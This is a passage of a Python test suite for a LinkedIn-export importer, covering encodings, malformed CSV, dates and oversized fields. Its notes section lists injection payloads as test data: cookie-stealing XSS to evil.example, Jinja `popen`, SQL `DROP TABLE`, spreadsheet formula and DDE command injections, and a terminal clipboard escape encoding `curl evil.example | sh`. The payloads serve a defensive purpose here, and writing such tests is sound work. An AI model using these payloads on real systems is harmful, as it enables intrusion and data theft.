             rows=[("invitations", {"name": "Reversed Person"}, {"note": "rev", "direction": "INCOMING"})],
             why="columns are found by name, in any order"),
        Case("invitations-header-case-and-spaces", cat,
             inv_file(invitations(inv("Casey Spaces"), header=" FROM , to,SENT   AT,message,DIRECTION,InviterProfileURL,inviteeprofileurl")),
             rows=[("invitations", {"name": "Casey Spaces"}, {"person_key": "casey-spaces"})],
             why="header names are compared without case and extra spaces"),
        Case("invitations-unknown-extra-columns", cat,
             inv_file(invitations(inv("Extra Cols") + ",a,b", header=INV_HEADER + ",Foo,Bar")),
             rows=[("invitations", {"name": "Extra Cols"}, {"raw": lambda r: '"foo": "a"' in r})],
             why="unknown columns are kept in the raw row and otherwise ignored"),
        Case("invitations-trailing-empty-fields", cat, inv_file(invitations(inv("Trailing Commas") + ",,,,", )),
             new={"invitations": 1}, why="spreadsheets pad rows with empty cells: ignored"),
        Case("invitations-row-with-fewer-fields-v1", cat,
             inv_file("From,To,Sent At,Message,Direction,inviterProfileUrl,inviteeProfileUrl\n"
                      "Few Fields,Camille Laurent,\"3/9/25, 8:43 PM\",,INCOMING\n"),
             rows=[("invitations", {"name": "Few Fields"}, {"profile_url": None, "person_key": "name:few fields|2025-03-10T03:43:00+00:00"})],
             why="missing trailing cells are empty: the profile URLs are optional"),
        Case("pending-row-with-fewer-fields", cat, single("pending.csv", pending("Few Pending,,,2026-09-03")),
             rows=[("invitations", {"name": "Few Pending"}, {"note": "", "headline": None})],
             why="headline, profile_url and note are optional"),
        Case("pending-aliases", cat,
             single("pending.csv", "Full Name,URL,Date,Message\nAlias Person,https://www.linkedin.com/in/alias,2026-09-03,hi\n"),
             rows=[("invitations", {"name": "Alias Person"}, {"note": "hi", "profile_url": "https://www.linkedin.com/in/alias"})],
             why="documented aliases: full name, url/profile url, date/sent at, message"),
        Case("invitations-header-only", cat, inv_file(INV_HEADER + "\n"), new={"invitations": 0},
             why="a header-only file is an empty list: nothing to add"),
        Case("connections-header-only", cat, folder({"Connections.csv": connections()}), new={"connections": 0},
             why="a header-only file is an empty list"),
        Case("messages-header-only", cat, folder({"messages.csv": MSG_HEADER + "\n"}), new={"messages": 0},
             why="a header-only file is an empty list"),
        Case("profile-header-only", cat, folder({"Profile.csv": PROFILE_HEADER + "\n"}),
             rows=[("owner", {"id": 1}, {"first_name": "Camille"})], why="no row: the owner is unchanged"),
        Case("pending-header-only", cat, single("pending.csv", PENDING_HEADER + "\n"), new={"invitations": 0},
             why="a header-only file is an empty list"),
        Case("profile-several-rows", cat,
             folder({"Profile.csv": "\n".join([PROFILE_HEADER, profile_row("Camille", "New headline"), profile_row("Eve", "X")]) + "\n"}),
             rows=[("owner", {"id": 1}, {"headline": "New headline"})], why="the owner is the first row; later rows are ignored"),
        Case("connections-hidden-profile-rows", cat,
             folder({"Connections.csv": connections(",,,,,,04 Feb 2021", ",,,,,,05 Feb 2021")}), new={"connections": 2},
             why="closed profiles have no name or URL: each row is kept under its own key"),
        Case("messages-draft-rows-skipped", cat,
             folder({"messages.csv": messages(msg_row("draft") + ",Yes", msg_row("sent") + ",No",
                                               header=MSG_HEADER + ",IS MESSAGE DRAFT")}),
             new={"messages": 1}, why="drafts are not messages"),
        Case("pending-blank-lines-between-rows", cat,
             single("pending.csv", PENDING_HEADER + "\n\n\n" + prow("Blank Lines") + "\n\n,,,,\n"),
             rows=[("invitations", {"name": "Blank Lines"}, {"source": lambda s: s.endswith(":4")})],
             why="blank rows are skipped; line numbers still count them"),
    ]
    return cases


def _encodings() -> list[Case]:
    cat = "encoding"
    name, note = "José Núñez", "Très intéressé par votre conférence — merci"
    text = invitations(inv(name, note=note))
    row = ("invitations", {"name": name}, {"note": note})
    cases = [
        Case("cp1252", cat, inv_file(text.encode("cp1252")), rows=[row], why="Excel on Windows writes cp1252"),
        Case("cp1252-crlf", cat, inv_file(text.replace("\n", "\r\n").encode("cp1252")), rows=[row],
             why="Excel on Windows writes cp1252 with CRLF"),
        Case("utf8-bom", cat, inv_file(b"\xef\xbb\xbf" + text.encode()), rows=[row], why="UTF-8 with a BOM"),
        Case("utf16-le-bom", cat, inv_file(b"\xff\xfe" + text.encode("utf-16-le")), rows=[row], why="UTF-16 LE with BOM"),
        Case("utf16-be-bom", cat, inv_file(b"\xfe\xff" + text.encode("utf-16-be")), rows=[row], why="UTF-16 BE with BOM"),
        Case("utf16-le-no-bom", cat, inv_file(text.encode("utf-16-le")), rows=[row],
             why="UTF-16 without BOM is recognised by its zero bytes"),
        Case("utf16-be-no-bom", cat, inv_file(text.encode("utf-16-be")), rows=[row],
             why="UTF-16 without BOM is recognised by its zero bytes"),
        Case("utf32-le-bom", cat, inv_file(b"\xff\xfe\x00\x00" + text.encode("utf-32-le")), rows=[row],
             why="UTF-32 with BOM"),
        Case("utf16-bom-odd-length", cat, inv_file(b"\xff\xfe" + text.encode("utf-16-le") + b"A"), "UTF-16"),
        Case("utf16-lone-surrogate", cat,
             inv_file(b"\xff\xfe" + invitations(inv("Lone Surrogate")).encode("utf-16-le") + b"\x00\xd8A\x00\n\x00"), "UTF-16"),
        Case("utf16-bom-then-nul-char", cat,
             inv_file(b"\xff\xfe" + (text + "\x00\n").encode("utf-16-le")), "NUL", line=3),
        Case("mojibake-double-encoded", cat,
             inv_file(text.encode("utf-8").decode("cp1252").encode("utf-8")),
             rows=[("invitations", {"name": "JosÃ© NÃºÃ±ez"}, {"note": lambda n: n.startswith("TrÃ¨s")})],
             why="mojibake is valid UTF-8: stored as written (no guessing), the raw row is kept"),
        Case("latin1-undefined-cp1252-bytes", cat,
             inv_file(invitations(inv("Undefined Bytes", note="a\x81b\x8dc\x90")).encode("latin-1")),
             rows=[("invitations", {"name": "Undefined Bytes"}, {"note": "a\ufffdb\ufffdc\ufffd"})],
             why="bytes cp1252 does not define become U+FFFD"),
        Case("utf8-overlong-and-surrogate-bytes", cat,
             inv_file(invitations(inv("Overlong Bytes", note="X")).replace(",X,", ",\x00\x00,").encode().replace(b"\x00\x00", b"\xc0\xaf\xed\xa0\x80")),
             rows=[("invitations", {"name": "Overlong Bytes"}, {"note": "À¯í\xa0€"})],
             why="bytes that are not UTF-8 are read one by one as cp1252"),
        Case("nul-in-first-bytes", cat, inv_file(b"\x00" + text.encode()), "NUL"),
        Case("nul-in-header", cat, inv_file(text.replace("Sent At", "Sent\x00At").encode()), "NUL"),
        Case("nul-far-in-file", cat,
             inv_file(invitations(*[inv(f"Row {i}") for i in range(200)], inv("Nul Row", note="a\x00b"))), "NUL",
             line=202),
        Case("nul-in-quoted-multiline-field", cat,
             inv_file(invitations(*[inv(f"Row {i}") for i in range(100)], inv("Nul Row", note="line1\nline2\x00"))), "NUL",
             line=103),
        Case("nul-in-pending-csv", cat, single("pending.csv", pending(prow("Nul"), prow("Nul B", note="x\x00y"))), "NUL"),
        Case("nul-in-cp1252-file", cat,
             inv_file(invitations(*[inv(f"Rôw {i}") for i in range(100)], inv("Nul Row", note="é\x00")).encode("cp1252")),
             "NUL", line=102),
        Case("invalid-utf8-mid-large-file", cat, inv_file(_large_mixed()),
             rows=[("invitations", {"name": "Hélène Mid"}, {"note": "déjà vu"})], new={"invitations": 20_001},
             why="a cp1252 file: each byte that is not UTF-8 is read as cp1252, nothing is doubled"),
        Case("utf8-file-with-one-cp1252-byte", cat,
             inv_file(invitations(inv("Hélène Utf", note="déjà vu"), inv("Stray Byte", note="Xcafe")).encode("utf-8")
                      .replace(b"Xcafe", b"Caf\xe9 cr\xe8me")),
             rows=[("invitations", {"name": "Hélène Utf"}, {"note": "déjà vu"}),
                   ("invitations", {"name": "Stray Byte"}, {"note": "Café crème"})],
             why="one stray cp1252 byte is read as cp1252 alone: the UTF-8 rows around it stay right (no mojibake)"),
        Case("utf8-bom-in-middle", cat, inv_file(invitations(inv("Bom Middle", note="a\ufeffb"))),
             rows=[("invitations", {"name": "Bom Middle"}, {"note": "a\ufeffb"})], why="a stray BOM inside a cell is text"),
        Case("bidi-and-zero-width-in-name", cat, inv_file(invitations(inv("Eve\u202eliveD\u200b", url="https://www.linkedin.com/in/eve-rtl"))),
             rows=[("invitations", {"person_key": "eve-rtl"}, {"name": "Eve\u202eliveD\u200b"})],
             why="control and format characters are stored as written; display code escapes them"),
        Case("ansi-escape-in-name", cat,
             inv_file(invitations(inv("\x1b[31mRed\x1b[0m", url="https://www.linkedin.com/in/ansi-red"))),
             rows=[("invitations", {"person_key": "ansi-red"}, {"name": "\x1b[31mRed\x1b[0m"})],
             why="stored as written; the terminal output goes through rich, which does not interpret them as markup"),
        Case("jsonl-cp1252", cat, single("pending.jsonl", '{"name": "Zoë Cp", "sent_at": "2026-09-03"}\n'.encode("cp1252")),
             rows=[("invitations", {"name": "Zoë Cp"}, {"sent_at": on_day("2026-09-03")})],
             why="a JSON Lines file in cp1252 is read like a CSV in cp1252"),
        Case("jsonl-utf16-bom", cat,
             single("pending.jsonl", b"\xff\xfe" + '{"name": "Zoë Sixteen", "sent_at": "2026-09-03"}\n'.encode("utf-16-le")),
             rows=[("invitations", {"name": "Zoë Sixteen"}, {})], why="UTF-16 with BOM"),
        Case("jsonl-utf8-bom", cat, single("pending.jsonl", b"\xef\xbb\xbf" + b'{"name": "Bom Json", "sent_at": "2026-09-03"}\n'),
             rows=[("invitations", {"name": "Bom Json"}, {})], why="UTF-8 with BOM"),
        Case("pending-csv-cp1252", cat, single("pending.csv", pending(prow("Zoë Pending", note="Ça va ?")).encode("cp1252")),
             rows=[("invitations", {"name": "Zoë Pending"}, {"note": "Ça va ?"})], why="cp1252"),
    ]
    return cases


def _large_mixed() -> bytes:
    rows = [inv(f"Bulk Person {i}", sent=f"{1 + i % 12}/{1 + i % 28}/25, {1 + i % 12}:{i % 60:02d} PM") for i in range(20_000)]
    rows.insert(15_000, inv("Hélène Mid", note="déjà vu"))
    text = invitations(*rows)
    return text.encode("cp1252")


def _garbage() -> list[Case]:
    cat = "garbage-and-empty"
    cases = []
    for name in ("Invitations.csv", "Connections.csv", "messages.csv", "Profile.csv"):
        cases.append(Case(f"empty-{slug(name)}", cat, folder({name: b""}, name), "file is empty"))
    cases += [
        Case("whitespace-only", cat, inv_file("   \n\t\n  \r\n"), "file is empty"),
        Case("blank-lines-only", cat, inv_file("\n" * 50), "file is empty"),
        Case("commas-only", cat, inv_file(",,,,\n,,,\n"), "file is empty"),
        Case("quotes-only", cat, inv_file('""\n""\n'), "file is empty"),
        Case("bom-only", cat, inv_file(b"\xef\xbb\xbf"), "file is empty"),
        Case("utf16-bom-only", cat, inv_file(b"\xff\xfe"), "file is empty"),
        Case("empty-pending-csv", cat, single("pending.csv", b""), "file is empty"),
        Case("empty-pending-jsonl", cat, single("pending.jsonl", b""), "file is empty"),
        Case("whitespace-pending-jsonl", cat, single("pending.jsonl", b"\n \n\t\n"), "file is empty"),
        Case("empty-pending-json", cat, single("pending.json", b""), "file is empty"),
        Case("png-as-invitations", cat, inv_file(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256))), "NUL"),
        Case("pdf-as-invitations", cat, inv_file(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n"),
             "no column"),
        Case("elf-as-pending", cat, single("pending.csv", b"\x7fELF\x02\x01\x01\x00" + bytes(64)), "NUL"),
        Case("printable-garbage", cat, inv_file("".join(prng(7).choices("abc,;\"'xyz \n", k=5000))), ANY),
        Case("pending-unsupported-extension", cat, single("pending.xml", "<xml/>"), "unsupported file type"),
        Case("no-such-file", cat, lambda d: Built([str(d / "missing.zip")], str(d / "missing.zip")), "no such file or directory"),
    ]
    for seed, size in ((1, 1), (2, 7), (3, 100), (4, 4096), (5, 70_000), (6, 1_000_000)):
        data = prng(seed).randbytes(size)
        cases.append(Case(f"random-bytes-{size}", cat, inv_file(data), ANY))
    for seed, size in ((11, 300), (12, 9000)):
        data = prng(seed).randbytes(size)
        cases.append(Case(f"random-bytes-pending-{size}", cat, single("pending.csv", data), ANY))
        cases.append(Case(f"random-bytes-jsonl-{size}", cat, single("pending.jsonl", data), ANY))
    for seed in (21, 22, 23):
        data = prng(seed).randbytes(3000).replace(b"\x00", b"")  # no NUL
        cases.append(Case(f"random-bytes-no-nul-{seed}", cat, inv_file(data), ANY))
    return cases


TEN_MB = 10 * 1000 * 1000
FIELD_LIMIT = 10 * 1024 * 1024


def _notes() -> list[Case]:
    cat = "notes"
    big = ("Bonjour Camille, " + "x" * 70 + "\n") * (TEN_MB // 88)
    cases = [
        Case("note-10mb", cat, inv_file(invitations(inv("Ten Megabytes", note=big))),
             rows=[("invitations", {"name": "Ten Megabytes"}, {"note": lambda n: len(n) == len(big.strip())})],
             why="a 10 MB note is within the 10 MiB field limit: stored whole"),
        Case("note-over-field-limit", cat, inv_file(invitations(inv("Too Big"), inv("Too Big B", note="y" * (FIELD_LIMIT + 1)))),
             "longer than", line=3),
        Case("note-10mb-jsonl", cat,
             single("pending.jsonl", '{"name": "Json Big", "sent_at": "2026-09-03", "note": "%s"}\n' % ("z" * TEN_MB)),
             rows=[("invitations", {"name": "Json Big"}, {"note": lambda n: len(n) == TEN_MB})], why="stored whole"),
        Case("headline-5mb-pending", cat, single("pending.csv", pending(prow("Long Headline", headline="h" * 5_000_000))),
             rows=[("invitations", {"name": "Long Headline"}, {"headline": lambda h: len(h) == 5_000_000})], why="stored whole"),
        Case("name-100k-chars", cat, inv_file(invitations(inv("N" * 100_000, url="https://www.linkedin.com/in/long-name"))),
             rows=[("invitations", {"person_key": "long-name"}, {"name": lambda n: len(n) == 100_000})], why="stored whole"),
        Case("very-long-line-200k-fields", cat, inv_file(invitations(inv("Wide Row") + ",v" * 200_000)),
             "row has 200007 fields", line=2),
        Case("very-long-line-no-newline", cat, inv_file(INV_HEADER + "\n" + inv("No Newline", note="w" * 3_000_000)),
             rows=[("invitations", {"name": "No Newline"}, {"note": lambda n: len(n) == 3_000_000})],
             why="a last line without a line end is a row"),
        Case("header-100k-columns", cat,
             inv_file(invitations(inv("Wide Header"), header=INV_HEADER + "".join(f",c{i}" for i in range(100_000)))),
             new={"invitations": 1}, why="unknown columns are ignored, however many"),
    ]
    payloads = {
        "script-tag": "<script>alert(document.cookie)</script>",
        "img-onerror": '<img src=x onerror="fetch(\'https://evil.example/\'+document.cookie)">',
        "svg-onload": '"><svg/onload=alert(1)>',
        "javascript-url": "javascript:alert(1)",
        "jinja-injection": "{{ config.__class__.__init__.__globals__['os'].popen('id').read() }}{% raw %}",
        "html-entities": "&lt;b&gt; &amp;amp; &#x3C;script&#x3E;",
        "sql-injection": "'); DROP TABLE invitations; --",
        "formula-hyperlink": '=HYPERLINK("https://evil.example/?d="&A1,"Click me")',
        "formula-plus-cmd": "+cmd|' /C calc'!A0",
        "formula-at-sum": "@SUM(1+1)*cmd|' /C calc'!A0",
        "formula-minus": "-2+3+cmd|' /C notepad'!A0",
        "formula-equals": "=1+1",
        "formula-tab-prefixed": "\t=IMPORTXML(CONCAT(\"https://evil.example/?\",A1),\"//a\")",
        "formula-dde": 'DDE("cmd";"/C calc";"!A0")',
        "markdown-and-rich-markup": "[bold red]alert[/] **bold** [link](javascript:alert(1))",
        "emoji-zwj-sequences": "👩‍👩‍👧‍👦 🏳️‍🌈 👍🏽 Hi!",
        "combining-marks-zalgo": "Z̴̡̛̛a̷̧l̸g̶o̵ ̷t̴e̸x̵t̶" * 20,
        "crlf-and-cr-inside-note": "line one\r\nline two\rline three\nline four",
        # Found by the trust pass (issue 19): a mail-merge tool's unfilled placeholders, terminal escapes.
        "mustache-placeholder": "Hi {{firstName}}, I am a student looking for an internship in SEO",
        "bracket-placeholder": "Hi [Name], we met at the SEO Camp in Lyon last week",
        "osc52-clipboard-write": "Hello\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07 Camille",
        "osc8-disguised-link": "\x1b]8;;https://evil.example\x07https://linkedin.com\x1b]8;;\x07",
        "clear-screen-and-c1-csi": "\x1b[2J\x1b[H\x9b31mred",
        "bidi-override": "Invoice \u202efdp.exe",
    }
    for label, payload in payloads.items():
        person = f"Payload {label.replace('-', ' ').title()}"
        cases.append(Case(f"note-{label}", cat, inv_file(invitations(inv(person, note=payload))),
                          rows=[("invitations", {"name": person}, {"note": payload.strip()})],
                          why="notes are data: stored verbatim (escaped on the page, quote-prefixed in CSV exports)"))
    cases.append(Case("name-with-terminal-escapes", cat,
                      inv_file(invitations(inv("Eve\x1b]52;c;ZXZpbA==\x07Mallory", url="https://www.linkedin.com/in/eve-osc"))),
                      rows=[("invitations", {"person_key": "eve-osc"}, {"name": "Eve\x1b]52;c;ZXZpbA==\x07Mallory"})],
                      why="stored as written; every terminal output and CSV shows the escape as text (\\u001b)"))
    cases.append(Case("same-person-export-and-pending-different-precision", cat,
                      lambda d: _export_and_pending(d),
                      rows=[("invitations", {"person_key": "same-person"}, {"headline": "Growth lead",
                                                                             "sent_at": "2025-03-10T03:43:00+00:00"})],
                      new={"invitations": 1},
                      why="one person, one invitation: the pending row (day precision) merges into the export's"))
    cases.append(Case("pending-javascript-profile-url", cat,
                      single("pending.csv", pending(prow("Js Url", url="javascript:alert(1)"))),
                      rows=[("invitations", {"name": "Js Url"}, {"profile_url": "javascript:alert(1)",
                                                                 "person_key": lambda k: k.startswith("name:js url|2026-09-03T")})],
                      why="not a profile URL, so the name identifies the person; the page links only http(s) URLs"))
    cases.append(Case("invitations-invalid-ipv6-url", cat,
                      inv_file(invitations(inv("Bad Url", url="http://[::1/in/bad-url"))), "profile URL", line=2))
    cases.append(Case("invitations-nfkc-netloc-url", cat,
                      inv_file(invitations(inv("Bad Netloc", url="https://ex\uff03ample.com/in/x"))), "profile URL", line=2))
    cases.append(Case("messages-invalid-recipient-url", cat,
                      folder({"messages.csv": messages(msg_row().replace(OWNER_URL, "https://[bad"))}, "messages.csv"),
                      "profile URL", line=2))
    cases.append(Case("connections-invalid-url", cat,
                      folder({"Connections.csv": connections(conn_row(url="https://[not-an-ip]/in/z"))}, "Connections.csv"),
                      "profile URL", line=5))
    cases.append(Case("pending-invalid-url", cat,
                      single("pending.csv", pending(prow("Bad Pending Url", url="https://a\u2100b.com/in/x"))),
                      "profile URL", line=2))
    return cases


def _export_and_pending(d: Path) -> Built:
    export = d / "export"
    _write_tree(export, {"Invitations.csv": invitations(inv("Same Person", url="https://www.linkedin.com/in/same-person"))})
    pend = d / "pending.csv"
    pend.write_text("name,headline,profile_url,sent_at\n"
                    "Same Person,Growth lead,https://fr.linkedin.com/in/Same-Person/?trk=x,2025-03-09\n", encoding="utf-8")
    return Built([str(export), str(pend)], str(pend))


def _dates() -> list[Case]:
    cat = "dates"
    cases: list[Case] = []
    ok_sent_at = {
        "linkedin-shape": ("3/9/25, 8:43 PM", "2025-03-10T03:43:00+00:00"),
        "us-24h": ("03/09/2025 20:43", "2025-03-10T03:43:00+00:00"),
        "us-24h-seconds": ("3/9/2025 20:43:15", "2025-03-10T03:43:15+00:00"),
        "iso-space-seconds": ("2025-03-09 20:43:00", "2025-03-10T03:43:00+00:00"),
        "iso-space-minutes": ("2025-03-09 20:43", "2025-03-10T03:43:00+00:00"),
        "dd-mon-yy": ("09-Mar-25", "2025-03-09T08:00:00+00:00"),
        "dd-mon-yyyy": ("9-Mar-2025", "2025-03-09T08:00:00+00:00"),
        "m-d-yy": ("3/9/25", "2025-03-09T08:00:00+00:00"),
        "m-d-yyyy": ("3/9/2025", "2025-03-09T08:00:00+00:00"),
        "iso-date": ("2025-03-09", "2025-03-09T08:00:00+00:00"),
        "iso-offset": ("2025-03-09T20:43:00-08:00", "2025-03-10T04:43:00+00:00"),
        "iso-zulu": ("2025-03-09T20:43:00Z", "2025-03-09T20:43:00+00:00"),
        "iso-fraction-zulu": ("2025-03-09T20:43:00.999999Z", "2025-03-09T20:43:00+00:00"),
        "nbsp-and-narrow-nbsp": ("3/9/25,\u00a08:43\u202fPM", "2025-03-10T03:43:00+00:00"),
        "surrounding-spaces": ("  3/9/25, 8:43 PM  ", "2025-03-10T03:43:00+00:00"),
        "no-comma-12h": ("3/9/25 8:43 PM", "2025-03-10T03:43:00+00:00"),
        "year-1900": ("1/1/1900", "1900-01-01T08:00:00+00:00"),
        "year-2100": ("12/31/2100 11:59 PM", "2101-01-01T07:59:00+00:00"),
        "leap-day": ("2/29/2024", "2024-02-29T08:00:00+00:00"),
        "dst-gap-hour": ("3/9/25, 2:30 AM", "2025-03-09T10:30:00+00:00"),
        "midnight-12am": ("3/9/25, 12:00 AM", "2025-03-09T08:00:00+00:00"),
    }
    # A numeric date without AM/PM ("3/9/2025") could be either order: a row of the same shape whose day is
    # above 12 tells the file's order (here month first, as a US spreadsheet writes it).
    deciding = {"us-24h": "03/15/2025 20:43", "us-24h-seconds": "3/15/2025 20:43:15", "m-d-yy": "3/15/25",
                "m-d-yyyy": "3/15/2025", "year-1900": "1/15/1900", "leap-day": "2/15/2024"}
    for label, (value, expected) in ok_sent_at.items():
        person = f"Date {label.replace('-', ' ').title()}"
        extra = [inv("Decides Order", sent=deciding[label])] if label in deciding else []
        cases.append(Case(f"sent-at-{label}", cat, inv_file(invitations(inv(person, sent=value), *extra)),
                          rows=[("invitations", {"name": person}, {"sent_at": expected})],
                          why="a date shape LinkedIn or a spreadsheet writes (Pacific time unless an offset is given)"))
    cases += [
        Case("sent-at-day-first-file", cat,
             inv_file(invitations(inv("Day First A", sent="09/03/2025 20:43"), inv("Day First B", sent="25/03/2025 09:00"))),
             rows=[("invitations", {"name": "Day First A"}, {"sent_at": "2025-03-10T03:43:00+00:00"})],
             why="a European re-save: a later row (25/03) shows the day comes first, so 09/03 is 9 March"),
        Case("sent-at-mixed-styles-each-decided", cat,
             inv_file(invitations(inv("Mixed A", sent="9/15/21"), inv("Mixed B", sent="09-04-2021"),
                                  inv("Mixed C", sent="9/4/21"), inv("Mixed D", sent="28-04-2021"))),
             rows=[("invitations", {"name": "Mixed B"}, {"sent_at": "2021-04-09T07:00:00+00:00"}),
                   ("invitations", {"name": "Mixed C"}, {"sent_at": "2021-09-04T07:00:00+00:00"})],
             why="an Excel re-save mixing 9/15/21 (month first) and 28-04-2021 (day first): each style decided by its own rows"),
        Case("sent-at-ambiguous-column", cat, inv_file(invitations(inv("Ambiguous", sent="09/03/2025 20:43"))),
             "ambiguous (day or month first?)", line=2),
        Case("sent-at-both-orders-in-one-style", cat,
             inv_file(invitations(inv("Us", sent="3/15/2025"), inv("Eu", sent="15/3/2025"))), "unlike earlier rows", line=3),
    ]
    bad_sent_at = {
        "excel-serial": "45123",
        "excel-serial-fraction": "45123.5",
        "empty": "",
        "only-spaces": "   ",
        "feb-30": "2/30/25, 8:43 PM",
        "month-13-and-day-13": "13/13/2025",
        "hour-25": "3/9/25 25:10",
        "feb-29-1900": "2/29/1900",
        "words": "yesterday",
        "iso-year-1-with-offset": "0001-01-01T00:00:00+01:00",
        "year-9999-late-evening": "12/31/9999 11:00 PM",
        "iso-year-9999-negative-offset": "9999-12-31T23:00:00-05:00",
        "nan": "NaN",
        "scientific": "1e10",
        "german-month": "09-Mär-25",
        "with-timezone-name": "3/9/25, 8:43 PM PST",
    }
    for label, value in bad_sent_at.items():
        cases.append(Case(f"sent-at-bad-{label}", cat, inv_file(invitations(inv("Good Row"), inv("Bad Date", sent=value))),
                          "empty date" if not value.strip() else "Sent At", line=3))
    ok_pending = {
        # A bare date goes through the LinkedIn/Excel shapes (Pacific midnight), not "no offset means UTC".
        "iso-date": ("2026-09-03", on_day("2026-09-03")),
        "iso-naive-datetime": ("2026-09-03T14:12:00", "2026-09-03T14:12:00+00:00"),
        "iso-offset": ("2026-09-03T14:12:00-07:00", "2026-09-03T21:12:00+00:00"),
        "iso-plus-14": ("2026-09-03T14:12:00+14:00", "2026-09-03T00:12:00+00:00"),
        "iso-basic": ("20260903T141200Z", "2026-09-03T14:12:00+00:00"),
        "linkedin-shape": ("9/3/26, 2:12 PM", "2026-09-03T21:12:00+00:00"),
        "iso-space-offset": ("2026-09-03 14:12:00+02:00", "2026-09-03T12:12:00+00:00"),
    }
    for label, (value, expected) in ok_pending.items():
        person = f"Pending {label.replace('-', ' ').title()}"
        cases.append(Case(f"pending-sent-at-{label}", cat, single("pending.csv", pending(prow(person, sent=value))),
                          rows=[("invitations", {"name": person}, {"sent_at": expected})],
                          why="ISO 8601 (no offset means UTC) or LinkedIn's shape (Pacific)"))
    bad_pending = {
        "feb-30": "2026-02-30",
        "iso-year-1-offset": "0001-01-01T00:00:00+05:00",
        "iso-year-9999-offset": "9999-12-31T23:59:59-01:00",
        "excel-serial": "45123",
        "garbage": "soon",
    }
    for label, value in bad_pending.items():
        cases.append(Case(f"pending-sent-at-bad-{label}", cat, single("pending.csv", pending(prow("Ok"), prow("Bad", sent=value))),
                          "sent_at", line=3))
    for label, value, expected in (("dd-mon-yyyy", "10 Mar 2025", "2025-03-10"), ("dd-mon-yy", "10-Mar-25", "2025-03-10"),
                                   ("iso", "2025-03-10", "2025-03-10"), ("full-month", "10 March 2025", "2025-03-10"),
                                   ("us", "3/10/2025", "2025-03-10"), ("empty", "", None)):
        first = f"Conn{label.replace('-', '')}"
        cases.append(Case(f"connected-on-{label}", cat, folder({"Connections.csv": connections(conn_row(first, "X", value))}),
                          rows=[("connections", {"first_name": first}, {"connected_on": expected})],
                          why="a date shape of Connections.csv or its Excel re-save (empty: unknown)"))
    for label, value in (("excel-serial", "45123"), ("feb-31", "31 Feb 2025"), ("german", "10 Mär 2025"), ("words", "last year")):
        cases.append(Case(f"connected-on-bad-{label}", cat, folder({"Connections.csv": connections(conn_row(connected=value))},
                                                                  "Connections.csv"), "Connected On", line=5))
    for label, value, expected in (("utc", "2025-01-27 10:00:00 UTC", "2025-01-27T10:00:00+00:00"),
                                   ("iso-offset", "2025-01-27T10:00:00+01:00", "2025-01-27T09:00:00+00:00"),
                                   ("empty", "", None)):
        content = f"Msg {label}"
        cases.append(Case(f"message-date-{label}", cat, folder({"messages.csv": messages(msg_row(content, value))}),
                          rows=[("messages", {"content": content}, {"date": expected})], why="messages.csv DATE shapes"))
    for label, value in (("overflow", "9999-12-31T23:59:59-01:00"), ("garbage", "tomorrow"), ("year-1", "0001-01-01 00:00:00+05:00")):
        cases.append(Case(f"message-date-bad-{label}", cat,
                          folder({"messages.csv": messages(msg_row("ok"), msg_row("bad", value))}, "messages.csv"), "DATE", line=3))
    return cases


def _csv_syntax() -> list[Case]:
    cat = "csv-syntax"
    rows = [inv(f"Syntax {i}") for i in range(3)]
    unquoted = [inv(f"Unquoted {i}", sent="2025-03-09") for i in range(3)]
    cases = [
        Case("unbalanced-quote-swallows-rest", cat,
             inv_file(invitations(inv("Quote A"), inv("Quote B").replace(",INCOMING", ',"INCOMING'), *unquoted)),
             "unbalanced", line=3),
        Case("unbalanced-quote-closed-by-next-row", cat,
             inv_file(invitations(inv("Quote A"), inv("Quote B").replace(",INCOMING", ',"INCOMING'), *rows)),
             "row has 10 fields", line=4),
        Case("unbalanced-quote-pending", cat,
             single("pending.csv", pending(prow("Q A"), line("Q B", "", "", "2026-09-03", "x").replace(",x", ',"x'),
                                           prow("Q C"), prow("Q D"))), "unbalanced", line=3),
        Case("unbalanced-quote-in-header", cat, inv_file('From,"To,Sent At,Message,Direction\n' + "\n".join(rows) + "\n"),
             "unbalanced", line=1),
        Case("unbalanced-quote-last-line", cat, inv_file(invitations(*rows) + 'Last,"Camille'), "unbalanced", line=5),
        Case("stray-quote-inside-unquoted-field", cat,
             inv_file(INV_HEADER + '\nStray,Camille Laurent,"3/9/25, 8:43 PM",He said "hi" to me,INCOMING,,\n'),
             rows=[("invitations", {"name": "Stray"}, {"note": 'He said "hi" to me'})],
             why="a quote inside an unquoted cell is kept as a character, like Excel does"),
        Case("text-after-closing-quote", cat,
             inv_file(INV_HEADER + '\nAfter Quote,Camille Laurent,"3/9/25, 8:43 PM","quoted"tail,INCOMING,,\n'),
             rows=[("invitations", {"name": "After Quote"}, {"note": "quotedtail"})],
             why="text after a closing quote is appended, as Python's csv (non-strict) reads it"),
        Case("cr-only-line-ends", cat, inv_file(invitations(*rows, eol="\r")),
             rows=[("invitations", {"name": "Syntax 2"}, {"source": lambda s: s.endswith(":4")})],
             why="old Mac line ends (CR only) are line ends"),
        Case("mixed-line-ends", cat, inv_file(INV_HEADER + "\r\n" + rows[0] + "\n" + rows[1] + "\r" + rows[2] + "\r\n"),
             new={"invitations": 3}, why="CRLF, LF and CR mixed"),
        Case("double-cr-line-ends", cat, inv_file(invitations(*rows, eol="\r\r\n")), new={"invitations": 3},
             why="CR CR LF reads as blank lines between rows, which are skipped"),
        Case("no-final-newline", cat, inv_file(invitations(*rows).rstrip("\n")), new={"invitations": 3},
             why="a missing final line end is fine"),
        Case("form-feed-and-vertical-tab", cat, inv_file(invitations(inv("Feed Person", note="a\x0cb\x0bc"))),
             rows=[("invitations", {"name": "Feed Person"}, {"note": "a\x0cb\x0bc"})], why="stored as written"),
        Case("quoted-header-with-newline", cat,
             inv_file('"From","To","Sent\nAt","Message","Direction"\n' + line("Header Newline", "C", "3/9/25, 8:43 PM", "", "INCOMING") + "\n"),
             rows=[("invitations", {"name": "Header Newline"}, {})], why="a line break inside a header cell is a space"),
        Case("name-with-newline", cat, inv_file(invitations(inv("Multi\nLine  Name", url="https://www.linkedin.com/in/multi-line"))),
             rows=[("invitations", {"person_key": "multi-line"}, {"name": "Multi Line Name"})],
             why="names are collapsed to one line"),
        Case("escaped-quotes-doubled", cat, inv_file(invitations(inv("Doubled", note='say ""hi""'))),
             rows=[("invitations", {"name": "Doubled"}, {"note": 'say ""hi""'})], why="standard CSV escaping"),
